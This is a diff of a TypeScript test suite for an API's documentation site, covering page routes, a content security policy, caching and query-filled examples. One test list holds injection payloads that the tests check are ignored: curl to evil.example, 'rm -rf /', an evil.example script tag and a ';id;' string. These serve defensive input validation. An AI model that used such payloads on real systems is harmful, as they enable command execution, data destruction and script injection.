@@ -384,7 +384,13 @@ describe('discovery', () => {
     it('serves a page for each topic, at a stable address', () => {
       assert.deepEqual([...pages.keys()].sort(), [
         '/docs',
-        ...'analytics changelog errors events found-secrets rate-limits reference revocation rotation scopes security token verify versioning webhooks'
+        ...'analytics changelog errors events found-secrets rate-limits reference'
+          .split(' ')
+          .map((topic) => `/docs/${topic}`),
+        ...'activity analytics callback clients discovery oauth people session'
+          .split(' ')
+          .map((tag) => `/docs/reference/${tag}`),
+        ...'revocation rotation scopes security token verify versioning webhooks'
           .split(' ')
           .map((topic) => `/docs/${topic}`),
       ])
@@ -445,30 +451,61 @@ describe('discovery', () => {
           const [target, anchor] = href.split('#')
           const page = target === '' ? html : pages.get(target ?? '')
           if (page) assert.ok(anchor === undefined || idsOf(page).includes(anchor), `${path}: ${href}`)
-          else if (/^\/(docs|openapi|llms)/.test(href)) {
-            assert.equal((await api.request('GET', href)).status, 200, `${path}: ${href}`)
+          else if (/^(?:https:\/\/api\.test)?\/(docs|openapi|llms)/.test(href)) {
+            const { status } = await api.request('GET', href.replace('https://api.test', ''))
+            assert.equal(status, 200, `${path}: ${href}`)
           } else
             assert.match(
               href,
-              /^\/(favicon\.svg|explain)?$|^https:\/\/(www\.npmjs\.com|pypi\.org|pkg\.go\.dev)\//,
+              /^\/(favicon\.svg)?$|^https:\/\/(api\.test\/explain$|(www\.npmjs\.com|pypi\.org|pkg\.go\.dev)\/)/,
               path,
             )
         }
       }
     })
 
-    it('runs and fetches nothing but files of its own, and lets no script write markup', () => {
+    it('fetches nothing but files of its own, and runs only the script that copies, which writes no markup', async () => {
+      const [, script = ''] = / src="(\/docs\/assets\/copy-[\w-]+\.js)"/.exec(pages.get('/docs') ?? '') ?? []
       assert.equal(
         policy,
-        "default-src 'none'; script-src 'self'; style-src 'self'; font-src 'self'; img-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'",
+        `default-src 'none'; script-src https://api.test${script}; style-src 'self'; font-src 'self'; img-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'`,
       )
+      const { headers, text } = await api.request('GET', script)
+      assert.equal(headers.get('content-type'), 'text/javascript; charset=utf-8')
+      assert.doesNotMatch(text, /innerHTML|eval|fetch\(|storage/i)
       for (const [path, html] of pages) {
-        assert.doesNotMatch(
-          html,
-          /<script(?! src="\/docs\/assets\/)|<style|<iframe|<img|\son\w+="|\sstyle="|javascript:/i,
-          path,
-        )
+        assert.equal(html.split('<script').length, 2, path)
+        assert.ok(html.includes(`<script src="${script}" defer></script>`), path)
+        assert.doesNotMatch(html, /<style|<iframe|<img|\son\w+="|\sstyle="|javascript:/i, path)
       }
+    })
+
+    it('leads on from each place of the reference when that was one page', async () => {
+      const document = (await api.request('GET', '/openapi.json')).json
+      const list = pages.get('/docs/reference') ?? ''
+      const operations = Object.values<Record<string, Operation>>(document.paths).flatMap(Object.values)
+      const anchors = [
+        ...operations.map(({ operationId }) => operationId),
+        ...Object.keys(document.components.schemas).map((name) => `schema-${name}`),
+      ]
+      for (const anchor of anchors) {
+        const [, path = ''] = new RegExp(`<li id="${anchor}"><a href="([^"]*)#${anchor}"`).exec(list) ?? []
+        assert.ok(idsOf(pages.get(path)).includes(anchor), anchor)
+      }
+      for (const { name } of document.tags)
+        assert.ok(idsOf(list).includes(`section-${name.toLowerCase()}`), name)
+      assert.ok(idsOf(list).includes('schemas'))
+    })
+
+    it('says what each parameter of the reference is', () => {
+      const rows = [...pages].flatMap(([path, html]) =>
+        [...html.matchAll(/<td>(?:path|query|header), .*?<\/td>\n<td>(.*?)<\/td>/gs)].map(([, text]) => [
+          path,
+          text,
+        ]),
+      )
+      assert.ok(rows.length > 40)
+      for (const [path, text] of rows) assert.ok(text, path)
     })
 
     it('closes every element that it opens', () => {
@@ -501,18 +538,6 @@ describe('discovery', () => {
       }
     })
 
-    it('indexes every section of every page for the search', async () => {
-      const index: string[][] = (await api.request('GET', '/docs/search.json')).json
-      const hrefs = index.map(([href]) => href)
-      assert.equal(new Set(hrefs).size, hrefs.length)
-      for (const href of ['/docs', '/docs/token#cache-the-token', '/docs/errors#oauth-invalid_scope'])
-        assert.ok(hrefs.includes(href), href)
-      for (const [, page, title, text] of index) {
-        assert.ok(page && title)
-        assert.doesNotMatch(`${title}${text}`, /<\/?\w|&\w+;/)
-      }
-    })
-
     it('prints the limits that the services have by default', () => {
       const settings = readFileSync(new URL('../../infra/SETTINGS.md', import.meta.url), 'utf8')
       for (const [policy, name] of [
@@ -524,7 +549,7 @@ describe('discovery', () => {
         ['api-events', 'RATE_API_EVENTS_PER_CLIENT'],
       ]) {
         const [, limit] = new RegExp(`\\| \`${name}\` \\| \`(\\d+)/60\``).exec(settings) ?? []
-        const printed = `<td><code>${policy}</code></td><td>${Number(limit).toLocaleString('en')} a minute</td>`
+        const printed = `<td><code>${policy}</code></td>\n<td>${Number(limit).toLocaleString('en')} a minute</td>`
         assert.ok(pages.get('/docs/rate-limits')?.includes(printed), printed)
       }
     })
@@ -537,7 +562,12 @@ describe('discovery', () => {
     })
   })
 
-  for (const path of ['/.well-known/oauth-protected-resource', '/openapi.json', '/docs']) {
+  for (const path of [
+    '/.well-known/oauth-protected-resource',
+    '/openapi.json',
+    '/openapi/integrations.json',
+    '/docs',
+  ]) {
     it(`requires no token at ${path}, and allows caching`, async () => {
       const response = await api.request('GET', path)
       assert.equal(response.status, 200)
@@ -551,8 +581,8 @@ describe('discovery', () => {
     '/docs',
     '/docs/token',
     '/docs/token.md',
-    '/docs/search.json',
-    '/docs/postman.json',
+    '/docs/reference/analytics',
+    '/openapi/integrations.json',
   ]) {
     it(`sends ${path} compressed to whoever takes that, and not again while it is the same`, async () => {
       const read = (headers: Record<string, string>) => api.request('GET', path, { headers })
@@ -573,6 +603,82 @@ describe('discovery', () => {
       assert.equal(new Set(tags).size, 3)
     })
   }
+
+  describe('GET /docs with a client in the query', () => {
+    const CLIENT = 'cli_4f1D2c3B5a69q78796a5w4'
+    const LINK = {
+      client_id: CLIENT,
+      vendor_id: 'ven_acme',
+      scope: 'analytics:read catalog:write',
+    }
+    const read = (query: Record<string, string>, path = '/docs', headers: Record<string, string> = {}) =>
+      api.request('GET', `${path}?${new URLSearchParams(query)}`, { headers })
+
+    it('fills in the examples, and says so', async () => {
+      const { text } = await read(LINK)
+      for (const line of [
+        'INTEGRATION_VENDOR_ID=ven_acme',
+        `INTEGRATION_CLIENT_ID=${CLIENT}`,
+        'INTEGRATION_CLIENT_SECRET=ias_…',
+        'INTEGRATION_SCOPE=&quot;analytics:read catalog:write&quot;',
+      ])
+        assert.ok(text.includes(`\n${line}`), line)
+      assert.match(text, new RegExp(`Filled in for the client <code>${CLIENT}</code>`))
+      assert.equal((await read({ client_id: CLIENT })).text.includes('INTEGRATION_VENDOR_ID=ven_…'), true)
+    })
+
+    it('keeps the client on links to other pages', async () => {
+      const { text } = await read(LINK)
+      const kept = `?${new URLSearchParams(LINK)}`.replaceAll('&', '&amp;')
+      assert.ok(text.includes(`<a href="/docs/token${kept}">Get a token</a>`))
+      assert.ok(text.includes(`<a href="/docs/token${kept}#authenticate-with-a-private-key">`))
+      assert.ok(text.includes('<a href="/docs">Show placeholders</a>'))
+      for (const href of [...text.matchAll(/ (?:href|src)="([^"]*)"/g)].map(([, href = '']) => href))
+        assert.equal(href.includes(CLIENT), /^\/docs(?:\/[^."]*)?\?/.test(href), href)
+    })
+
+    it('keeps the variants apart for every cache', async () => {
+      const plain = await api.request('GET', '/docs')
+      const filled = await read(LINK)
+      const other = await read({ ...LINK, client_id: 'cli_aaaaaaaaaaaaaaaaaaaaaa' })
+      assert.equal(plain.headers.get('cache-control'), 'public, max-age=300')
+      assert.equal(filled.headers.get('cache-control'), 'private, max-age=300')
+      const tags = [plain, filled, other].map(({ headers }) => headers.get('etag') ?? '')
+      assert.equal(new Set(tags).size, 3)
+      const statusWith = async (tag = '') => (await read(LINK, '/docs', { 'if-none-match': tag })).status
+      assert.equal(await statusWith(tags[1]), 304)
+      for (const tag of [tags[0], tags[2]]) assert.equal(await statusWith(tag), 200)
+      assert.equal((await api.request('GET', '/docs')).text, plain.text)
+      const packed = await read(LINK, '/docs', { 'accept-encoding': 'gzip' })
+      assert.equal(packed.headers.get('content-encoding'), 'gzip')
+      assert.equal(packed.text, filled.text)
+    })
+
+    for (const [name, value] of [
+      ['client_id', `${CLIENT}$(curl evil.example)`],
+      ['client_id', `${CLIENT}\nrm -rf /`],
+      ['client_id', `"><script src=//evil.example>`],
+      ['client_id', 'cli_short'],
+      ['vendor_id', 'ven_acme";id;"'],
+      ['vendor_id', 'ven_acme\n'],
+      ['scope', 'analytics:read"; curl evil.example; "'],
+      ['scope', 'analytics:read $&'],
+      ['utm_source', '<script>'],
+    ] as const)
+      it(`ignores ${name}=${JSON.stringify(value)}`, async () => {
+        const { [name as 'scope']: _, ...others } = LINK as Record<string, string>
+        const [without, withIt] = await Promise.all([read(others), read({ ...others, [name]: value })])
+        assert.equal(withIt.text, without.text)
+        const alone = await read({ [name]: value })
+        assert.equal(alone.text, (await api.request('GET', '/docs')).text)
+        assert.equal(alone.headers.get('cache-control'), 'public, max-age=300')
+      })
+
+    it('takes the first of two values, or none', async () => {
+      const twice = await api.request('GET', `/docs?client_id=x&client_id=${CLIENT}`)
+      assert.equal(twice.text, (await api.request('GET', '/docs')).text)
+    })
+  })
 
   it('answers /docs/ as /docs', async () => {
     const response = await api.request('GET', '/docs/')
